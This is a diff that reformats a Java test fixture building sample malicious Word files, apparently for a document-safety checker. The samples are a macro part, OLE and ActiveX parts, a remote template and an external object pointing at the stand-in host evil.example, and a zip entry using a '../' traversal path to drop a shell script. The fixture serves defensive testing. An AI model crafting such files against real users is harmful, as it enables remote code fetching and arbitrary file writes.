@@ -19,9 +19,18 @@ final class OfficeFiles {
     static Map<String, byte[]> harmful() {
         Map<String, byte[]> files = new LinkedHashMap<>();
         files.put("マクロ", document("word/vbaProject.bin", "macro", relationship("vbaProject", "vbaProject.bin", false)));
-        files.put("外のひな形", document("word/x.xml", "<x/>", relationship("attachedTemplate", "http://evil.example/t.dotm", true)));
-        files.put("OLE", document("word/embeddings/oleObject1.bin", "ole", relationship("oleObject", "embeddings/oleObject1.bin", false)));
-        files.put("ActiveX", document("word/activeX/activeX1.bin", "x", relationship("control", "activeX/activeX1.xml", false)));
+        files.put(
+                "外のひな形",
+                document("word/x.xml", "<x/>", relationship("attachedTemplate", "http://evil.example/t.dotm", true)));
+        files.put(
+                "OLE",
+                document(
+                        "word/embeddings/oleObject1.bin",
+                        "ole",
+                        relationship("oleObject", "embeddings/oleObject1.bin", false)));
+        files.put(
+                "ActiveX",
+                document("word/activeX/activeX1.bin", "x", relationship("control", "activeX/activeX1.xml", false)));
         files.put("外の絵", document("word/x.xml", "<x/>", relationship("oleObject", "http://evil.example/x", true)));
         files.put("抜け出す名", document("../../../../tmp/evil.sh", "#!/bin/sh", ""));
         return files;
@@ -42,11 +51,17 @@ final class OfficeFiles {
                     <Default Extension="bin" ContentType="application/octet-stream"/>
                     <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                     </Types>""");
-            put(zip, "_rels/.rels", "<Relationships xmlns=\"" + RELATIONSHIPS + "\"><Relationship Id=\"r1\" Type=\"" + OFFICE
-                    + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
+            put(
+                    zip,
+                    "_rels/.rels",
+                    "<Relationships xmlns=\"" + RELATIONSHIPS + "\"><Relationship Id=\"r1\" Type=\"" + OFFICE
+                            + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
             put(zip, "word/document.xml", """
                     <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>""");
-            put(zip, "word/_rels/document.xml.rels", "<Relationships xmlns=\"" + RELATIONSHIPS + "\">" + relationship + "</Relationships>");
+            put(
+                    zip,
+                    "word/_rels/document.xml.rels",
+                    "<Relationships xmlns=\"" + RELATIONSHIPS + "\">" + relationship + "</Relationships>");
             put(zip, extra, content);
         } catch (IOException e) {
             throw new UncheckedIOException(e);
